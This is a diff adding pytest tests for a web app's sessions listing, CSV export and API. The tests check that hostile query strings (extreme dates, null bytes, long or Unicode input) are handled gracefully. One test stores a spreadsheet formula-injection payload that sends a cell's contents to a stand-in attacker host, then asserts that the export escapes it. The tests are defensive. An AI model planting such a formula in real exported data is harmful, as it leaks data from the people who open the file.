@@ -287,3 +287,44 @@ def test_pages_merge_every_course_newest_first(as_creator, creator, make_session
     assert seen == expected
     page = html(as_creator.get(URL))
     assert [int(i) for i in __import__("re").findall(r'id="row-(\d+)"', page)] == expected[:25]
+
+
+@pytest.mark.parametrize("query", [
+    {"range": "custom", "to": "9999-12-31"}, {"range": "custom", "from": "0001-01-01"},
+    {"tab": "upcoming", "date": "9999-12-31"}, {"tab": "upcoming", "date": "0001-01-01"},
+    {"tab": "upcoming", "view": "week", "date": "9999-12-30"}, {"st": "²"}, {"cursor": "2024-01-01_1"},
+    {"range": "custom"}, {"student": "x" * 5000},
+], ids=repr)
+def test_hostile_query_strings_get_a_page_not_a_500(as_creator, rated, query):
+    """Extreme dates, Unicode digits, a cursor without a time zone: a clear message or the
+    default, never an error page, on the page, the metrics, the CSV and the detail."""
+    for url in (URL, f"{URL}/metrics", f"{URL}/export.csv", f"{URL}/{rated.id}/"):
+        response = as_creator.get(url, query)
+        assert response.status_code == 200, (url, query, response.status_code)
+    page = html(as_creator.get(URL, query))
+    if query.get("range") == "custom":
+        assert "between 1900 and 9000" in page or "Choose a start or an end date" in page
+
+
+def test_dates_without_a_custom_range_are_not_a_filter(as_creator, rated):
+    page = html(as_creator.get(URL, {"from": "2020-01-01"}))
+    assert "Clear filters" not in page
+
+
+def test_the_csv_never_starts_a_formula(as_creator, make_session, student):
+    student.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    student.save()
+    make_session(start=NOW - timedelta(days=1))
+    body = b"".join(as_creator.get(f"{URL}/export.csv").streaming_content).decode()
+    row = list(csv.reader(io.StringIO(body)))[1]
+    assert row[5] == "'" + student.name
+
+
+@pytest.mark.parametrize(("path", "query"), [
+    ("/api/creators/me/sessions", {"student": "\x00"}), ("/api/creators/me/sessions/stats", {"student": "\x00"}),
+    ("/api/creators/me/sessions/upcoming", {"from": "9999-12-31T00:00:00+00:00"}),
+    ("/api/creators/me/sessions", {"cursor": "2024-01-01_1"}),
+])
+def test_api_rejects_hostile_filters_with_422(as_creator, path, query):
+    response = as_creator.get(path, query)
+    assert response.status_code == 422 and response.json()["code"] == "invalid", response.content
